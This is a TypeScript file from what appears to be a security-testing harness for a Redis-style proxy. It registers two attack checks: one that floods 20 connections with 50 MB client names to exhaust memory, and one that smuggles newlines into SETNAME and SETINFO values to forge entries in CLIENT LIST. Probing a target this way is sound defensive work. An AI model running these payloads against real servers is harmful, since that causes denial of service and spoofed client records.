import { register } from '../attack.ts';
import { brief, isError, request } from '../wire.ts';

const LARGE = 50 * 1024 * 1024;
const CLIENTS = 20;

register({
  name: 'large-names',
  tries: 'has the proxy keep a name of 50 MB for each of 20 connections',
  as: ['application'],
  seconds: 25,
  async run(attacker) {
    const { password = '' } = attacker.target;
    const large = request('HELLO', '3', 'AUTH', 'default', password, 'SETNAME', 'x'.repeat(LARGE));
    const { wires } = await attacker.many(CLIENTS);
    const answers: string[] = [];
    // One after the other: kept names add up, requests under way do not.
    for (const wire of wires) {
      await Promise.race([wire.send(large), attacker.rest(2000)]);
      answers.push(brief(await wire.reply(2000)));
      if (attacker.timeLeft < 3000) break;
    }
    const kept = answers.filter((answer) => !isError(answer) && answer !== 'no answer').length;
    for (const wire of wires) wire.close();
    return {
      did: `${answers.length} names; ${[...new Set(answers)].slice(0, 2).join(' | ')}`,
      got: kept > 0 ? [`${kept} names of 50 MB were taken`] : [],
    };
  },
});

register({
  name: 'forged-client-list',
  tries: 'forges lines of CLIENT LIST by newlines in names',
  as: ['application'],
  thin: true,
  seconds: 5,
  async run(attacker) {
    const forged = 'id=1 name=operator';
    const got: string[] = [];
    for (const words of [
      ['CLIENT', 'SETNAME', `a\n${forged}`],
      ['HELLO', '2', 'SETNAME', `a\n${forged}`],
      ['CLIENT', 'SETINFO', 'LIB-NAME', `a\n${forged}`],
    ]) {
      const wire = await attacker.enter();
      await wire.ask(...words);
      const list = (await wire.ask('CLIENT', 'LIST')) ?? '';
      if (list.split('\n').some((line) => line.startsWith(forged)))
        got.push(`a line forged by ${words.slice(0, 2).join(' ')}`);
      wire.close();
    }
    return { did: '3 ways to name a connection', got };
  },
});
